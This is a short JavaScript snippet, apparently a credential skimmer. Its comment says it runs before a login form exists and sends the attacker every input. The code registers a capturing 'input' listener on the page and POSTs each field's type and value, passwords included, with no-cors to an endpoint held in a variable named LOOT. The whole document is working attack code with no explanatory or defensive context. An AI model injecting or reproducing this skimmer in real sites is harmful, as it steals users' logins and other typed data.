// Runs before the login form exists, and sends the attacker every input.
addEventListener("input", ({ target }) => {
  fetch(LOOT, { method: "POST", mode: "no-cors", body: `${target.type} ${target.value}` });
}, true);
